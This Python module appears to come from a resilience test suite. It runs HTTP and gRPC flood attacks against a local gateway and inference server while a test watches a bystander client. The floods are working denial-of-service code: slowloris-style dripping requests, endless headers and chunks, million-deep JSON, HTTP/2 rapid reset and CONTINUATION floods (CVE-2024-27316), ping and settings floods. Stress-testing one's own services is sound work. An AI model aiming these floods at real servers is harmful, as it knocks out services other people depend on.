"""Floods of both services, one client's each: `python -m attack.floods NAME HTTP_PORT GRPC_PORT SECONDS`.

Each runs in a process of its own, so that it takes no time from the bystander who is watched meanwhile.
"""

import contextlib
import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from itertools import count

from attack import http2, raw
from attack.http2 import TOP_K, WATCH_MODELS, call, message, speaking
from attack.tiers import Address, Tiers

Flood = Callable[[Address], Iterator[None]]
"""Attacks an address, a burst between one yield and the next."""

BURST_S = 0.01  # between bursts: one attacker's line, not the whole machine
STUCK_S = 1.0  # that one burst may wait for the server
HALF = raw.POST + b'content-length: 1000\r\n\r\n{"text": "'
LONG = b'{"text": "' + b"a " * 500_000 + b'"}'
DEEP = b'{"text": ' + b"[" * 1_000_000


@contextlib.contextmanager
def impatient(address: Address) -> Iterator[socket.socket]:
    """A connection that gives up on a server that takes nothing."""
    with raw.connected(address) as connection:
        connection.settimeout(STUCK_S)
        yield connection


def held(address: Address, most: int, first: bytes, further: bytes) -> Iterator[None]:
    """So many connections that all began something and go on a little at a time; those that end are opened again."""
    with contextlib.ExitStack() as stack:
        connections: list[socket.socket] = []
        while True:
            for at in range(most):
                if at == len(connections):
                    connections.append(stack.enter_context(impatient(address)))
                    raw.send(connections[at], first)
                elif not raw.send(connections[at], further):
                    connections[at].close()
                    connections[at] = stack.enter_context(impatient(address))
                    raw.send(connections[at], first)
                if at % 10 == 0:
                    yield


def endless(address: Address, first: bytes, piece: bytes) -> Iterator[None]:
    """One request without end, again and again."""
    while True:
        with impatient(address) as connection:
            sent = raw.send(connection, first)
            while sent:
                yield
                sent = raw.send(connection, piece)
        yield


def trailers(address: Address) -> Iterator[None]:
    """Trailers without end after a chunked body."""
    return endless(address, raw.GET + b"transfer-encoding: chunked\r\n\r\n0\r\n", b"a:b\r\n" * 4000)


def heads(address: Address) -> Iterator[None]:
    """Headers without end."""
    return endless(address, raw.GET, b"a:b\r\n" * 4000)


def chunks(address: Address) -> Iterator[None]:
    """A body of tiny chunks without end, to a route that reads none."""
    return endless(address, raw.GET + b"transfer-encoding: chunked\r\n\r\n", b"1\r\na\r\n" * 3000)


def half_bodies(address: Address) -> Iterator[None]:
    """Questions whose bodies drip."""
    return held(address, 300, HALF, b"a")


def half_heads(address: Address) -> Iterator[None]:
    """Heads that drip."""
    return held(address, 300, raw.GET, b"a")


def event_streams(address: Address) -> Iterator[None]:
    """Event streams that are never read."""
    return held(address, 300, raw.GET.replace(b"/healthz", b"/api/models/events") + b"\r\n", b"")


def unread(address: Address) -> Iterator[None]:
    """Answers asked for and never read."""
    page = raw.GET.replace(b"/healthz", b"/api/openapi.json") + b"\r\n"
    return held(address, 20, page * 20, page)


def asked(address: Address, body: Callable[[int], bytes], connections: int = 16) -> Iterator[None]:
    """Questions over a few connections at once, each in a session of its own; answers are read and dropped."""
    with contextlib.ExitStack() as stack:
        fresh: list[socket.socket | None] = [None] * connections
        for number in count():
            at = number % connections
            connection = fresh[at] = fresh[at] or stack.enter_context(impatient(address))
            data = body(number)
            head = raw.POST + b"x-session: s%d\r\ncontent-length: %d\r\n\r\n" % (number, len(data))
            connection.setblocking(False)
            with contextlib.suppress(BlockingIOError, OSError):
                while connection.recv(1 << 16):
                    pass
            connection.settimeout(STUCK_S)
            if not raw.send(connection, head + data):
                fresh[at] = None
            if at == 0:
                yield


def fresh_sessions(address: Address) -> Iterator[None]:
    """Questions, each new and of a new session."""
    return asked(address, lambda number: json.dumps({"text": f"{number} girls", "model": "bundled"}).encode())


def long_texts(address: Address) -> Iterator[None]:
    """Texts of a million bytes."""
    return asked(address, lambda number: LONG, 4)


def deep_json(address: Address) -> Iterator[None]:
    """Lists a million deep."""
    return asked(address, lambda number: DEEP, 4)


def calls_at_once(address: Address) -> Iterator[None]:
    """Three thousand gRPC calls in one burst, all of them new questions."""
    for number in count():
        with speaking(address) as peer:
            for at in range(0, 3000, 100):
                for inner in range(100):
                    stream = peer.stream()
                    text = f"{number} and {at + inner}".encode()
                    peer.send(call(stream), message(stream, b"\x12" + bytes([len(text)]) + text))
                peer.hear()
            yield
            peer.hear(1.0)
        yield


def rapid_reset(address: Address) -> Iterator[None]:
    """Calls that are taken back at once."""
    while True:
        with speaking(address) as peer:
            while not peer.closed and peer.uses < 20_000:
                for _ in range(50):
                    stream = peer.stream()
                    peer.send(call(stream), message(stream, b"\x12\x04Once"), http2.reset(stream))
                peer.hear()
                yield
        yield


def open_streams(address: Address) -> Iterator[None]:
    """Calls that never say what they want."""
    with speaking(address) as peer:
        while not peer.closed:
            if peer.uses < 20_000:
                peer.send(*(call(peer.stream(), WATCH_MODELS if at % 2 else TOP_K) for at in range(50)))
            peer.hear()
            yield
    yield from open_streams(address)


def closed_windows(address: Address) -> Iterator[None]:
    """Answers that no window lets through."""
    with speaking(address, [(http2.INITIAL_WINDOW_SIZE, 0)]) as peer:
        while not peer.closed:
            if peer.uses < 5_000:
                for _ in range(10):
                    stream = peer.stream()
                    peer.send(call(stream), message(stream, b"\x12\x04Once\x18\xe8\x07\x58\x01"))
            peer.hear()
            yield
    yield from closed_windows(address)


def frames_without_end(address: Address, first: bytes, piece: bytes) -> Iterator[None]:
    """The same frames again and again on one connection, whatever comes back."""
    while True:
        with speaking(address) as peer:
            sent = peer.send(first)
            while sent and not peer.closed:
                sent = peer.send(piece)
                peer.hear()
                yield
        yield


def continuations(address: Address) -> Iterator[None]:
    """Headers that go on and never end (CVE-2024-27316 and others)."""
    block = http2.header_block([("x", "y" * 100)] * 10)
    pieces = http2.frame(http2.CONTINUATION, 0, 1, block) * 50
    return frames_without_end(address, call(1, flags=0), pieces)


def empty_continuations(address: Address) -> Iterator[None]:
    """The same, and nothing in it to count."""
    return frames_without_end(address, call(1, flags=0), http2.frame(http2.CONTINUATION, 0, 1) * 500)


def pings(address: Address) -> Iterator[None]:
    """Pings, each to be answered."""
    return frames_without_end(address, b"", http2.frame(http2.PING, 0, 0, bytes(8)) * 200)


def settings(address: Address) -> Iterator[None]:
    """Settings, each to be answered."""
    return frames_without_end(address, b"", http2.frame(http2.SETTINGS, 0, 0) * 200)


AT_GATEWAY: dict[str, Flood] = {
    flood.__name__: flood
    for flood in (
        *(trailers, heads, chunks, half_bodies, half_heads, event_streams, unread),
        *(fresh_sessions, long_texts, deep_json),
    )
}
AT_INFERENCE: dict[str, Flood] = {
    flood.__name__: flood
    for flood in (
        *(calls_at_once, rapid_reset, open_streams, closed_windows),
        *(continuations, empty_continuations, pings, settings),
    )
}
FLOODS = AT_GATEWAY | AT_INFERENCE


@contextlib.contextmanager
def flooding(name: str, tiers: Tiers, seconds: float) -> Iterator[None]:
    """A flood from a process of its own; within it, the test watches the others until the flood has ended."""
    command = [sys.executable, "-m", "attack.floods", name, str(tiers.http[1]), str(tiers.grpc[1]), str(seconds)]
    environment = os.environ | {"PYTHONPATH": os.pathsep.join(sys.path)}
    attacker = subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, text=True)
    try:
        yield
        told, _ = attacker.communicate(timeout=raw.PATIENCE_S + seconds)
        assert attacker.returncode == 0
        assert int(told) > 0, "the flood got nowhere"
    finally:
        attacker.kill()
        attacker.wait()


def main(name: str, http_port: str, grpc_port: str, seconds: str) -> None:
    """Floods for that long, and prints how many bursts there were."""
    until = time.monotonic() + float(seconds)
    port = int(http_port if name in AT_GATEWAY else grpc_port)
    bursts = 0
    while time.monotonic() < until:
        with contextlib.suppress(OSError):  # shut out: it comes back
            for _ in FLOODS[name](("127.0.0.1", port)):
                bursts += 1
                time.sleep(BURST_S)
                if time.monotonic() > until:
                    break
        time.sleep(BURST_S)
    sys.stdout.write(str(bursts))


if __name__ == "__main__":
    main(*sys.argv[1:])
